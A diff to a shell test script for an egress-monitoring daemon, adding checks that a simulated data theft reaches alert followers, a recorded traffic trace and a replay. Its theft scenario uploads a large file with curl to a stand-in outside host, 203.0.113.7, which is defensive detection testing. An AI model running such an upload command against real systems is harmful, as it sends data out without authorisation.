@@ -112,6 +112,12 @@ expect_match second-instance-says-why "$(cat "$tmp/second")" 'another egressd us
 head -c 100000 /dev/urandom | timeout 5 socat -u - "UNIX-CONNECT:$tmp/sock" 2>/dev/null
 expect survives-foreign-bytes "$(ctl status >/dev/null; echo $?)" 0
 
+# --- what happens is told while it happens ---------------------------------------
+timeout 60 "$BUILD/egressctl" --socket "$tmp/sock" alerts --json --follow >"$tmp/follow" 2>&1 &
+pids+=($!)
+ctl record -o "$tmp/trace.jsonl" --for 12s >/dev/null 2>&1 & recorder=$!
+pids+=("$recorder")
+
 # --- a theft becomes an alert -------------------------------------------------
 head -c 120000000 /dev/zero >"$tmp/dump"
 in_db curl -sS -m 30 -T "$tmp/dump" telnet://203.0.113.7:9000 </dev/null >/dev/null 2>&1 & pids+=($!)
@@ -121,11 +127,17 @@ wait_for 15 bash -c "'$BUILD/egressctl' --socket '$tmp/sock' alerts --json | gre
 ctl alerts --json >"$tmp/alerts"
 expect_match theft-is-reported "$(cat "$tmp/alerts")" '"level":"page"'
 expect_match theft-names-the-tool "$(json "$tmp/alerts" "rows[0]['subject']")" 'curl.*203\.0\.113'
-expect_match alert-was-logged "$(cat "$tmp/log")" 'page open'
+expect_match alert-was-logged "$(cat "$tmp/log")" 'ALERT .* page open'
 id=$(json "$tmp/alerts" "rows[0]['alert.id']")
 expect show-finds-it "$(ctl show "${id:0:8}" --json | json - "rows[0]['alert.id']")" "$id"
 expect ack-works "$(ctl ack "$id" >/dev/null; echo $?)" 0
 kill "$curl" 2>/dev/null
+expect_match followers-hear-of-it "$(cat "$tmp/follow")" '"level":"page"'
+wait "$recorder" 2>/dev/null
+expect_match trace-begins-with-its-header "$(head -1 "$tmp/trace.jsonl")" '"trace":"egress"'
+expect trace-has-the-theft "$(json "$tmp/trace.jsonl" "sum(r['tx'] for r in rows[1:] if 'curl' in r.get('exe', '')) > 16000000")" True
+"$BUILD/egressctl" replay "$tmp/trace.jsonl" --json >"$tmp/replayed"
+expect replay-judges-alike "$(json "$tmp/replayed" "any('curl' in r.get('subject', '') and r['level'] == 'page' for r in rows)")" True
 
 # --- kill -9: counting goes on, the next daemon adopts it -----------------------
 before=$(ctl status --json | json - "rows[0]['total.payload_bytes']")
